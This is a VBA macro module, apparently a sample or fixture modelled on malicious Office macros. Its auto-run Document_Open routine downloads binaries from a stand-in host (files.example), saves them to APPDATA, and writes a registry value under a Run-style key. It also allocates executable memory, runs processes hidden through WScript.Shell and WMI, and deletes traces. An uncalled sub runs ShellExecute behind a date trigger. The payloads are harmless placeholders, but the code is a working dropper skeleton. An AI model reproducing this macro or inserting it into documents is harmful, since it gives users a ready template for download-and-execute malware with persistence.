Attribute VB_Name = "Module1"
Private Declare PtrSafe Function URLDownloadToFileA Lib "urlmon" (ByVal a As LongPtr, ByVal u As String, ByVal f As String, ByVal r As Long, ByVal c As LongPtr) As Long
Private Declare PtrSafe Function Alloc Lib "kernel32" Alias "VirtualAlloc" (ByVal a As LongPtr, ByVal s As Long, ByVal t As Long, ByVal p As Long) As LongPtr

Function Bytes(ByVal text As String) As Byte()
    Dim doc As Object, node As Object
    Set doc = CreateObject("MSXML2.DOMDocument")
    Set node = doc.createElement("b64")
    node.DataType = "bin.base64"
    node.Text = text
    Bytes = node.nodeTypedValue
End Function

Sub Document_Open()
    Dim http, stream, sh
    Set http = CreateObject("MSXML2.XMLHTTP")
    http.Open "GET", "http://files.example/" & "a.bin", False
    http.send
    Set stream = CreateObject("ADODB.Stream")
    With stream
        .Type = 1
        .Open
        .Write http.responseBody
        .SaveToFile Environ$("APPDATA") & "\a.bin", 2
        .Close
        .Open
        .Write Bytes("aGVsbG8gd29ybGQ=")
        .SaveToFile "b.txt", 2
    End With
    URLDownloadToFileA 0, "http://files.example/c.bin", "c.bin", 0, 0
    Alloc 0, 4096, &H3000, &H40
    Set sh = CreateObject("WScript.Shell")
    sh.RegWrite "HKCU\Software\Example\Run", "b.txt", "REG_SZ"
    sh.Run "notepad b.txt", 0, True
    GetObject("winmgmts:\\.\root\cimv2:Win32_Process").Create "notepad", Null, Null, 0
    Kill "c.bin"
End Sub

' Nobody calls this one.
Private Sub Hidden(ByVal target As String)
    If Date > #1/1/2020# Then
        CreateObject("Shell.Application").ShellExecute target, "/q", "", "open", 0
    Else
        Exit Sub
    End If
End Sub
